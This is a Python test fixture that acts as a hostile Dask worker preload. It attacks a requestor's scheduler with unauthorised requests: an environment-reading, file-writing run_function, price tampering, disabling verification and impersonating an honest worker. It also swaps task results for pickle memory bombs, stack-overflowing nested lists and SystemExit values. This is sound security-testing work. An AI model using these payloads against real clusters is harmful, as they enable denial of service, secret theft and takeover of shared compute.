"""A worker preload of a provider that attacks the requestor with everything its certificate allows.

Loaded with ``--preload hostile_worker`` into the worker of :mod:`hostile_provider` (a genuine
certificate from the session's CA, under the provider's own name). Once the worker has joined,
it tries each attack on the requestor's scheduler and writes what happened to the JSON file
named by ``$HOSTILE_ATTACK_LOG``:

* requests outside the worker protocol on its own connection: run a function in the scheduler
  (read its environment, write a file), register plugins, raise its own price a million-fold
  through the meter's controls, read the cluster's state, retire or unregister the honest worker
  and heartbeat in its name;
* messages on its batched stream that belong to a client (``update-graph``, ``cancel-keys``,
  ``client-releases-keys``) or that name another worker.

And it answers tasks with hostile results: a task whose key starts with one of
:data:`PAYLOADS`'s names returns that payload instead of its value (the worker computes the
task, then the plugin swaps the value it holds before anyone fetches it).
"""

from __future__ import annotations

import asyncio
import json
import os
from typing import Any

from distributed.diagnostics.plugin import WorkerPlugin
from distributed.protocol.pickle import dumps

ATTACK_LOG_ENV = "HOSTILE_ATTACK_LOG"
STOLEN_FILE_ENV = "HOSTILE_STOLEN_FILE"


class _BytearrayBomb:
    """Pickles as ``bytearray(2**40)``: 32 bytes that ask for a terabyte."""

    def __reduce__(self) -> tuple[Any, ...]:
        return bytearray, (2**40,)


class _RangeBomb:
    """Pickles as ``list(range(2**40))``."""

    def __reduce__(self) -> tuple[Any, ...]:
        return list, (range(2**40),)


class _FrozensetBomb:
    def __reduce__(self) -> tuple[Any, ...]:
        return frozenset, (range(2**40),)


class _Raw:
    """A value this worker sends as the exact pickle bytes it holds (see :func:`_send_raw_pickles`)."""

    def __init__(self, data: bytes) -> None:
        self.data = data


def _deep_list(depth: int = 100_000) -> _Raw:
    """A list nested ``depth`` deep, written as pickle opcodes (about 2 bytes a level): no
    recursion on this side, where pickling it would need as deep a C stack as unpickling it."""
    return _Raw(b"\x80\x05" + b"]" * depth + b"a" * (depth - 1) + b".")


def _send_raw_pickles() -> None:
    """This worker's pickler sends a :class:`_Raw` value's bytes as they are: it is the provider's process."""
    from distributed.protocol import pickle as protocol_pickle

    original = protocol_pickle.dumps

    def dumps(x: Any, *args: Any, **kwargs: Any) -> bytes:
        return x.data if isinstance(x, _Raw) else original(x, *args, **kwargs)

    protocol_pickle.dumps = dumps


PAYLOADS = {
    "bytearray-bomb": _BytearrayBomb,
    "range-bomb": _RangeBomb,
    "frozenset-bomb": _FrozensetBomb,
    "deep-list": _deep_list,
    "system-exit": lambda: SystemExit("the provider says: exit"),
    "keyboard-interrupt": lambda: KeyboardInterrupt("the provider says: stop"),
}


class _Substitute(WorkerPlugin):
    """Swaps the value of a finished task whose key names a payload."""

    name = "hostile-substitute"

    def setup(self, worker: Any) -> None:
        self.worker = worker

    def transition(self, key: Any, start: str, finish: str, **kwargs: Any) -> None:
        if finish != "memory" or not isinstance(key, str):
            return
        for prefix, make in PAYLOADS.items():
            if key.startswith(prefix):
                self.worker.data[key] = make()


async def _attack(worker: Any) -> None:
    while worker.status.name != "running" or worker.batched_stream is None:
        await asyncio.sleep(0.05)
    identity = await worker.scheduler.identity()
    others = {a: str(w.get("name")) for a, w in identity.get("workers", {}).items() if a != worker.address}
    honest = next(iter(others), None)
    stolen = os.environ.get(STOLEN_FILE_ENV, "/tmp/hostile-stolen")

    def spy(dask_scheduler: Any = None) -> dict[str, str]:
        with open(stolen, "w") as f:
            f.write("written by a provider")
        return dict(os.environ)

    requests = {
        "run_function": {"function": dumps(spy), "args": dumps(()), "kwargs": dumps({}), "wait": True},
        "register_scheduler_plugin": {"plugin": dumps(object()), "name": "spy", "idempotent": False},
        "register_worker_plugin": {"plugin": dumps(object()), "name": "spy"},
        "golem_configure": {"prices": {worker.name: [str(10**15), str(10**15), "0"]}, "limit": 10**18},
        "golem_meter_state": {},
        "golem_verify_configure": {"fraction": 0.0},  # checking off, for everyone
        "golem_verify_decide": {"check_id": "any", "release": True},
        "get_cluster_state": {"exclude": ()},
        "retire_workers": {"workers": [honest] if honest else [], "close_workers": True},
        "unregister": {"address": honest or "tls://127.0.0.1:1", "stimulus_id": "hostile"},
        "heartbeat_worker": {"address": honest or "tls://127.0.0.1:1", "now": 0, "metrics": {}},
        "scatter": {"data": {"x": 1}, "workers": None, "client": "hostile", "broadcast": False},
    }
    outcomes: dict[str, str] = {}
    for op, arguments in requests.items():
        try:
            result = await getattr(worker.scheduler, op)(**arguments)
            outcomes[op] = f"ANSWERED {str(result)[:200]}"
        except Exception as error:  # noqa: BLE001 (what happened is the point)
            outcomes[op] = f"{type(error).__name__}: {error}"
    # The stream: a client's messages, and reports in another worker's name.
    stream = worker.batched_stream
    stream.send({"op": "update-graph", "graph_header": {}, "graph_frames": [], "client": "hostile"})
    stream.send({"op": "cancel-keys", "keys": ["anything"], "client": "hostile"})
    stream.send({"op": "client-releases-keys", "keys": ["anything"], "client": "hostile"})
    stream.send({"op": "task-finished", "key": "anything", "worker": honest or "x", "run_id": 1, "nbytes": 1})
    outcomes["stream"] = "sent"
    outcomes["honest"] = str(honest)
    with open(os.environ[ATTACK_LOG_ENV] + ".tmp", "w") as f:
        json.dump(outcomes, f)
    os.replace(os.environ[ATTACK_LOG_ENV] + ".tmp", os.environ[ATTACK_LOG_ENV])


async def dask_setup(worker: Any) -> None:
    _send_raw_pickles()
    await worker.plugin_add(_Substitute(), name=_Substitute.name)
    if os.environ.get(ATTACK_LOG_ENV):
        worker._ongoing_background_tasks.call_soon(_attack, worker)
